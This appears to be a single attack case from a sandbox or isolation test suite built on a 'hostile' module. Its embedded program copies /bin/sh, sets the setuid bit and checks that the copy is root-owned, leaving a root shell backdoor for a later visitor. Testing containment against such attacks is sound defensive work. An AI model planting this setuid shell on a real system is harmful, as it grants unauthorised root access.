"""Leaves a copy of a shell that runs as whoever owns the copy, for a later visitor."""

from hostile import Attack, Tier

PROGRAM = """
import os, shutil
def f(x):
    shutil.copy("/bin/sh", "shell")
    os.chmod("shell", 0o4755)
    found = os.stat("shell")
    return 2 if found.st_uid == 0 and found.st_mode & 0o4000 else 0
"""

ATTACK = Attack(PROGRAM, tier=Tier.WEAK, needs_root=True)
